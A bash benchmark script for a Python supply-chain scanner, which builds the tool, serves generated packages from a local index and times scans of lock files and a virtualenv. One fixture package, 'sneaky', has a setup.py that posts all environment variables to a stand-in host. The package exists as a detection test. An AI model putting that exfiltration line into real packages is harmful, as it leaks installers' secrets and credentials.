#!/usr/bin/env bash
# A new user's first hour, scripted: clone the repository into a temporary
# folder, build it as the README says, then scan a name, a requirements
# file, a uv lock, a poetry lock and a fresh virtualenv against a local
# package index server (pypiserver on 127.0.0.1 serving a few generated
# packages, one of them malicious), printing the time of each step.
#
#   scripts/newcomer.sh [--debug]
#   NEWCOMER_KEEP_BINARY=/tmp/assay scripts/newcomer.sh   # keep the binary
#
# --debug builds the dev profile (faster to build, slower to scan) instead
# of release. Needs git, cargo, python3 and pypi-server
# ($ASSAY_TEST_PYPI_SERVER, or the one scripts/test.sh installs). Nothing
# leaves the machine but the crate downloads of the build.
set -euo pipefail
repo="$(cd "$(dirname "$0")/.." && pwd)"
profile=release
[[ "${1:-}" == "--debug" ]] && profile=debug
server=${ASSAY_TEST_PYPI_SERVER:-${CARGO_TARGET_DIR:-$repo/target}/test-venv/bin/pypi-server}
if [[ ! -x "$server" ]]; then
    echo "newcomer: no pypi-server at $server (run scripts/test.sh once, or set ASSAY_TEST_PYPI_SERVER)" >&2
    exit 2
fi
work=$(mktemp -d)
pid=""
trap '[[ -n "$pid" ]] && kill "$pid" 2>/dev/null; rm -rf "$work"' EXIT

now() { date +%s.%N; }
timed() { # label, command...: runs it, prints the time and the exit status
    local label=$1 start end status=0
    shift
    start=$(now)
    "$@" || status=$?
    end=$(now)
    printf '%-34s %8.2f s   exit %s\n' "$label" "$(python3 -c "print($end - $start)")" "$status"
}

# 1. Clone and build, as the README says.
git clone --quiet "$repo" "$work/assay"
export CARGO_TARGET_DIR="$work/target"
if [[ $profile == release ]]; then
    timed "build (cargo build --release --locked)" \
        cargo build --quiet --release --locked --manifest-path "$work/assay/Cargo.toml" -p assay-cli
else
    timed "build (cargo build --locked)" \
        cargo build --quiet --locked --manifest-path "$work/assay/Cargo.toml" -p assay-cli
fi
assay="$CARGO_TARGET_DIR/$profile/assay"
# NEWCOMER_KEEP_BINARY=PATH keeps a copy of the binary built (for
# scripts/bench-warm.sh and the figures of docs/benchmarks.md).
[[ -n "${NEWCOMER_KEEP_BINARY:-}" ]] && cp "$assay" "$NEWCOMER_KEEP_BINARY"

# 2. An index with a few packages: `webapp` depends on `helpers` and
# `tidy`; `sneaky` posts the environment from its setup.py (never run:
# assay only reads it).
python3 - "$work/packages" <<'PY'
import base64, hashlib, io, os, sys, tarfile, zipfile
out = sys.argv[1]
os.makedirs(out)
def record_line(path, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}\n"
def package(name, version, files, requires=(), setup=None):
    meta = f"Metadata-Version: 2.2\nName: {name}\nVersion: {version}\n" + "".join(
        f"Requires-Dist: {r}\n" for r in requires)
    info = f"{name}-{version}.dist-info"
    wheel = dict(files)
    wheel[f"{info}/METADATA"] = meta
    wheel[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(record_line(p, d.encode()) for p, d in wheel.items())
    wheel[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(f"{out}/{name}-{version}-py3-none-any.whl", "w") as z:
        for p, d in wheel.items():
            z.writestr(p, d)
    sdist = dict(files)
    sdist["PKG-INFO"] = meta
    sdist["setup.py"] = setup or f"from setuptools import setup\nsetup(name={name!r}, version={version!r})\n"
    with tarfile.open(f"{out}/{name}-{version}.tar.gz", "w:gz") as t:
        for p, d in sdist.items():
            data = d.encode()
            entry = tarfile.TarInfo(f"{name}-{version}/{p}")
            entry.size = len(data)
            t.addfile(entry, io.BytesIO(data))
package("tidy", "1.0", {"tidy/__init__.py": "def add(a, b):\n    return a + b\n"})
package("helpers", "2.1", {"helpers/__init__.py": "import json\n\ndef dump(x):\n    return json.dumps(x)\n"})
package("webapp", "0.3", {"webapp/__init__.py": "from helpers import dump\n"}, ["helpers>=2", "tidy"])
package("sneaky", "0.1", {"sneaky/__init__.py": ""}, setup=(
    "import os, json, urllib.request\nfrom setuptools import setup\n"
    "urllib.request.urlopen('http://203.0.113.9/c', data=json.dumps(dict(os.environ)).encode())\n"
    "setup(name='sneaky', version='0.1')\n"))
PY

port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
"$server" run --port "$port" --host 127.0.0.1 --disable-fallback -a . -P . --hash-algo sha256 \
    --log-stream none "$work/packages" >/dev/null 2>&1 &
pid=$!
for _ in $(seq 100); do
    python3 -c "import urllib.request; urllib.request.urlopen('http://127.0.0.1:$port/simple/')" 2>/dev/null && break
    sleep 0.1
done
index="http://127.0.0.1:$port/simple/"

# 3. The inputs a user has: a requirements file, a uv lock, a poetry lock.
cd "$work"
printf 'webapp==0.3\nsneaky==0.1\n' >requirements.txt
python3 - "$work/packages" "$index" <<'PY'
import hashlib, os, sys
packages, index = sys.argv[1], sys.argv[2]
files = {}
for f in sorted(os.listdir(packages)):
    files.setdefault(f.split("-")[0], []).append((f, hashlib.sha256(open(os.path.join(packages, f), "rb").read()).hexdigest()))
versions = {"tidy": "1.0", "helpers": "2.1", "webapp": "0.3", "sneaky": "0.1"}
root = index.replace("/simple/", "/packages/")
with open("uv.lock", "w") as lock:
    lock.write('version = 1\nrequires-python = ">=3.8"\n\n')
    lock.write('[[package]]\nname = "project"\nversion = "0.1.0"\nsource = { virtual = "." }\n'
               'dependencies = [{ name = "webapp" }]\n\n')
    for name in ("helpers", "tidy", "webapp"):
        lock.write(f'[[package]]\nname = "{name}"\nversion = "{versions[name]}"\nsource = {{ registry = "{index}" }}\n')
        if name == "webapp":
            lock.write('dependencies = [{ name = "helpers" }, { name = "tidy" }]\n')
        for f, digest in files[name]:
            entry = f'{{ url = "{root}{f}", hash = "sha256:{digest}" }}'
            lock.write(f"sdist = {entry}\n" if f.endswith(".tar.gz") else f"wheels = [{entry}]\n")
        lock.write("\n")
with open("poetry.lock", "w") as lock:
    lock.write("# This file is automatically @generated by Poetry and should not be changed by hand.\n\n")
    for name in ("helpers", "sneaky", "tidy"):
        entries = "".join(f'    {{file = "{f}", hash = "sha256:{d}"}},\n' for f, d in files[name])
        lock.write(f'[[package]]\nname = "{name}"\nversion = "{versions[name]}"\ndescription = ""\n'
                   f'optional = false\npython-versions = "*"\nfiles = [\n{entries}]\n\n')
    lock.write('[metadata]\nlock-version = "2.0"\npython-versions = "*"\ncontent-hash = "0"\n')
PY
timed "fresh venv (python3 -m venv)" python3 -m venv "$work/venv"

# 4. The scans, cold then warm, each as the README's quick start shows it.
export XDG_CACHE_HOME="$work/cache" XDG_CONFIG_HOME="$work/config" PIP_CONFIG_FILE=/dev/null
scan() { "$assay" scan --index-url "$index" --python-version 3.11 -q "$@" >/dev/null 2>&1; }
for round in cold warm; do
    timed "scan webapp ($round)" scan webapp
    timed "scan -r requirements.txt ($round)" scan -r requirements.txt
    timed "scan uv.lock ($round)" scan uv.lock
    timed "scan poetry.lock ($round)" scan poetry.lock
    timed "scan --env venv --fail-on suspicious ($round)" scan --env venv --fail-on suspicious
done
echo "expected: exit 0 for webapp, uv.lock and the venv; exit 1 for the"
echo "requirements file and poetry.lock, which bring in sneaky."
